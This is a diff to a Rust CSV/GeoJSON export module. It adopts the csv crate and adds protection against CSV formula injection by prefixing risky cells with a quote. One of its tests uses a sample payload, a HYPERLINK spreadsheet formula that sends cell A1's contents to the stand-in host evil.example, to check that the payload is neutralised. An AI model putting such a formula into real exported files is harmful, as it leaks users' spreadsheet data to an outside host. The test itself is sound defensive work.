@@ -1,6 +1,7 @@
 //! Writing sites back out as RFC 7946 GeoJSON (WGS84 lon/lat), properties in
 //! the model's order followed by every extra property as read.
 
+use std::borrow::Cow;
 use std::io::Write;
 
 use serde_json::{Map, Value};
@@ -68,62 +69,43 @@ pub fn write_feature_collection<'a, W: Write>(
     w.write_all(b"\n]}\n")
 }
 
-/// One CSV field, quoted when it holds a comma, quote or line break.
-pub fn csv_field(s: &str) -> String {
-    if s.contains([',', '"', '\n', '\r']) { format!("\"{}\"", s.replace('"', "\"\"")) } else { s.to_string() }
-}
-
 /// Writes a CSV table as UTF-8 with a byte-order mark, so that Excel opens
-/// the Chinese text correctly; CRLF line ends as RFC 4180 says.
+/// the Chinese text correctly; CRLF line ends as RFC 4180 says, a field in
+/// quotes when it holds a comma, quote or line break. A cell (header
+/// included) that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
+/// and is not a plain number gets a leading `'`, so that a spreadsheet shows
+/// it as text instead of running it as a formula.
 pub fn write_csv<W: Write>(
     w: &mut W,
     header: &[String],
     rows: impl IntoIterator<Item = Vec<String>>,
 ) -> std::io::Result<()> {
     w.write_all("\u{feff}".as_bytes())?;
-    let line = |w: &mut W, cells: &[String]| -> std::io::Result<()> {
-        let joined: Vec<String> = cells.iter().map(|c| csv_field(c)).collect();
-        w.write_all(joined.join(",").as_bytes())?;
-        w.write_all(b"\r\n")
+    // Flexible: a row is written as it comes, whatever its length.
+    let mut out = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).flexible(true).from_writer(w);
+    let mut line = |cells: &[String]| -> csv::Result<()> {
+        let safe: Vec<Cow<str>> = cells.iter().map(|c| formula_safe(c)).collect();
+        out.write_record(safe.iter().map(|c| c.as_bytes()))
     };
-    line(w, header)?;
+    line(header)?;
     for r in rows {
-        line(w, &r)?;
+        line(&r)?;
     }
-    Ok(())
+    out.flush()
 }
 
-/// Reads back a CSV written by [`write_csv`] (for tests and round trips).
-pub fn read_csv(text: &str) -> Vec<Vec<String>> {
-    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
-    let mut rows = Vec::new();
-    let mut row = Vec::new();
-    let mut field = String::new();
-    let mut quoted = false;
-    let mut chars = text.chars().peekable();
-    while let Some(c) = chars.next() {
-        match (quoted, c) {
-            (true, '"') if chars.peek() == Some(&'"') => {
-                field.push('"');
-                chars.next();
-            }
-            (true, '"') => quoted = false,
-            (true, c) => field.push(c),
-            (false, '"') => quoted = true,
-            (false, ',') => row.push(std::mem::take(&mut field)),
-            (false, '\r') => {}
-            (false, '\n') => {
-                row.push(std::mem::take(&mut field));
-                rows.push(std::mem::take(&mut row));
-            }
-            (false, c) => field.push(c),
-        }
-    }
-    if !field.is_empty() || !row.is_empty() {
-        row.push(field);
-        rows.push(row);
-    }
-    rows
+/// A cell that a spreadsheet will not run as a formula (CSV injection):
+/// one starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
+/// leading `'`, which Excel and LibreOffice take as "text follows". Plain
+/// numbers such as `-3.5` or `+2` are left as they are.
+fn formula_safe(cell: &str) -> Cow<'_, str> {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky && !is_plain_number(cell) { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
+}
+
+/// A finite decimal number and nothing else (no spaces, no `-inf`).
+fn is_plain_number(cell: &str) -> bool {
+    cell.parse::<f64>().is_ok_and(f64::is_finite)
 }
 
 /// The table rows as CSV: the given columns, cells as the table shows them.
@@ -212,6 +194,18 @@ pub fn write_stats_csv<W: Write>(w: &mut W, rows: &[crate::stats::StatRow], zh: 
 mod tests {
     use super::*;
 
+    /// The output as the `csv` crate reads it: after the BOM, every record as written.
+    fn read_back(buf: &[u8]) -> Vec<Vec<String>> {
+        let body = buf.strip_prefix("\u{feff}".as_bytes()).expect("Excel needs the BOM to read UTF-8");
+        csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(body)
+            .records()
+            .map(|r| r.unwrap().iter().map(String::from).collect())
+            .collect()
+    }
+
     #[test]
     fn csv_round_trips_chinese_text_commas_quotes_and_line_breaks() {
         let rows = vec![
@@ -221,8 +215,47 @@ mod tests {
         let mut buf = Vec::new();
         write_csv(&mut buf, &["名称".to_string(), "备注".into()], rows.clone()).unwrap();
         assert!(buf.starts_with("\u{feff}".as_bytes()), "Excel needs the BOM to read UTF-8");
-        let back = read_csv(std::str::from_utf8(&buf).unwrap());
+        let back = read_back(&buf);
         assert_eq!(back[0], ["名称", "备注"]);
         assert_eq!(&back[1..], &rows[..]);
+        assert!(buf.ends_with(b"\r\n"), "CRLF line ends");
+        assert_eq!(std::str::from_utf8(&buf).unwrap().matches("\r\n").count(), 3, "one CRLF per record");
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_as_formulas_get_a_quote_and_numbers_do_not() {
+        let header = vec!["名称".to_string(), "=备注".into()];
+        let rows: Vec<Vec<String>> = [
+            ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "-3.5"],
+            ["+1+1", "@SUM(A1:A9)"],
+            ["-2+3", "-"],
+            ["\tlabel", "\r=1"],
+            ["+7", "-1e3"],
+            ["a=b", "12"],
+            ["-inf", ""],
+        ]
+        .iter()
+        .map(|r| r.iter().map(|c| c.to_string()).collect())
+        .collect();
+        let mut buf = Vec::new();
+        write_csv(&mut buf, &header, rows).unwrap();
+        let back = read_back(&buf);
+        let want: Vec<Vec<&str>> = vec![
+            vec!["名称", "'=备注"],
+            vec!["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "-3.5"],
+            vec!["'+1+1", "'@SUM(A1:A9)"],
+            vec!["'-2+3", "'-"],
+            vec!["'\tlabel", "'\r=1"],
+            vec!["+7", "-1e3"],
+            vec!["a=b", "12"],
+            vec!["'-inf", ""],
+        ];
+        assert_eq!(back, want);
+        // In the file itself the formula sits inside quotes, behind the `'`.
+        let text = std::str::from_utf8(&buf).unwrap();
+        assert!(
+            text.contains("\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点击\"\")\",-3.5\r\n"),
+            "{text}"
+        );
     }
 }
